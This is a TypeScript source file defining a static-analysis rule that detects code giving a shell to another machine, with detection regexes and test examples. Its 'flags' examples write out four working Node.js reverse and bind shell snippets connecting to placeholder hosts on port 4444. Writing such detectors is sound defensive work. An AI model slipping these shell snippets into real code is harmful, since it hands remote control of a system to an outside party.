import { defineRule, step, stepsOf } from '../src/define.js';
import type { AnyNode, FileContext } from '../src/types.js';
import { networkRootOf } from '../src/vocabulary/apis.js';
import { isServed } from '../src/vocabulary/served.js';

const SHELLS = /(?:^|[\\/])(?:sh|bash|zsh|dash|cmd|cmd\.exe|powershell|powershell\.exe|pwsh)$/i;

export default defineRule({
  meta: {
    summary: 'Gives a shell to another machine',
    why: 'A socket joined to a shell is remote control. Terminal servers do this as their purpose, through a pseudo-terminal and a server that listens; a library that dials out has no honest reason.',
    behaviour: 'execution',
    messages: {
      piped: 'Joins a socket to a shell: {command}',
      fed: 'Feeds a shell, or what else runs what it reads, with what another machine says: {command}',
      served: 'Gives a shell to whoever connects: {command}',
    },
    bits: { piped: 14, fed: 13.5, served: 11 },
  },
  examples: {
    flags: [
      {
        title: 'a shell answers a socket',
        code: `const socket = require('net').connect(4444, '192.0.2.1');\nconst shell = require('child_process').spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/bash');\nshell.stdout.pipe(socket);\nsocket.on('data', line => shell.stdin.write(line));`,
      },
      {
        title: 'a socket is piped into a shell',
        code: `const net = require('net'), { spawn } = require('child_process');\nconst client = new net.Socket();\nclient.connect(4444, '192.0.2.1', () => {\n  const sh = spawn('/bin/sh', []);\n  client.pipe(sh.stdin);\n  sh.stdout.pipe(client);\n});`,
      },
      {
        title: 'what a socket says is written to a shell',
        code: `const net = require('net'), { spawn } = require('child_process');\nconst socket = net.connect(4444, 'stage.invalid');\nconst shell = spawn('cmd.exe');\nsocket.on('data', line => shell.stdin.write(line));\nshell.stdout.on('data', text => socket.write(text));`,
      },
      {
        title: 'whoever connects gets a shell',
        code: `const net = require('net'), { spawn } = require('child_process');\nnet.createServer(socket => {\n  const shell = spawn('/bin/sh', ['-i']);\n  socket.pipe(shell.stdin);\n  shell.stdout.pipe(socket);\n}).listen(4444);`,
      },
    ],
    passes: [
      {
        title: 'a shell is given a line of the program’s own',
        code: `const { spawn } = require('child_process');\nconst sh = spawn('/bin/sh');\nsh.stdin.write('make all\\n');\nrequire('https').get('https://a.invalid', res => res.pipe(process.stdout));`,
      },
      {
        title: 'a shell runs a build',
        code: `const { spawn } = require('child_process');\nconst sh = spawn('/bin/sh', ['-c', 'make']);\nsh.stdout.pipe(process.stdout);`,
      },
      {
        title: 'a download is piped to a file',
        code: `require('https').get('https://a.invalid', res => res.pipe(require('fs').createWriteStream('a')));`,
      },
    ],
  },
  file(context) {
    const shells = context
      .calls('process')
      .filter(
        ({ args: [program, words] }) =>
          program && (context.textsOf(program).some(text => SHELLS.test(text)) || isWaiting(context, program, words)),
      );
    if (shells.length === 0) return;
    for (const pipe of context.named(/\.pipe$/)) {
      const target = pipe.args[0] ? context.namesOf(pipe.args[0]) : [];
      const source = pipe.receiver ? context.namesOf(pipe.receiver) : [];
      const served = [pipe.args[0], pipe.receiver].some(
        node => node && context.labelsOf(node).some(({ kind, detail }) => kind === 'remote' && isServed(detail)),
      );
      const joined =
        ((served || source.some(isSocket)) && target.some(isProcess)) ||
        (source.some(isProcess) && (served || target.some(isSocket)));
      if (!joined) continue;
      const [shell] = shells;
      if (!shell) continue;
      context.report({
        messageId: served ? 'served' : 'piped',
        data: { command: context.textsOf(shell.args[0] as never)[0] ?? '' },
        chain: [
          step('source', 'starts a shell', context.file, shell.node),
          step('sink', 'joins it to a socket', context.file, pipe.node),
        ],
      });
    }
    for (const write of context.named(/\.stdin\.(?:write|end)$/)) {
      const [data] = write.args;
      const isOfShell = write.receiver && context.namesOf(write.receiver).some(isProcess);
      const label = data && isOfShell ? context.labelsOf(data).find(({ kind }) => kind === 'remote') : undefined;
      const [shell] = shells;
      if (!label || !shell) continue;
      context.report({
        messageId: isServed(label.detail) ? 'served' : 'fed',
        data: { command: context.textsOf(shell.args[0] as never)[0] ?? '' },
        chain: [
          step('source', 'starts a shell', context.file, shell.node),
          ...stepsOf(label),
          step('sink', `hands it on with ${write.name}`, context.file, write.node),
        ],
      });
    }
  },
});

/** An interpreter that was given no file, and so runs what it reads. */
const INTERPRETERS = /(?:^|[\\/])(?:node|bun|deno|python[23]?|perl|ruby|php)(?:\.exe)?(?:\s-)?$/i;

function isWaiting(
  { textsOf, namesOf, textsWithin }: FileContext,
  program: AnyNode,
  words: AnyNode | undefined,
): boolean {
  const isOne = textsOf(program).some(text => INTERPRETERS.test(text)) || namesOf(program).includes('process.execPath');
  return isOne && (words?.type !== 'ArrayExpression' || textsWithin(words).every(word => word === '-'));
}

function isSocket(name: string): boolean {
  return networkRootOf(name) !== undefined;
}

function isProcess(name: string): boolean {
  return name.startsWith('child_process.');
}
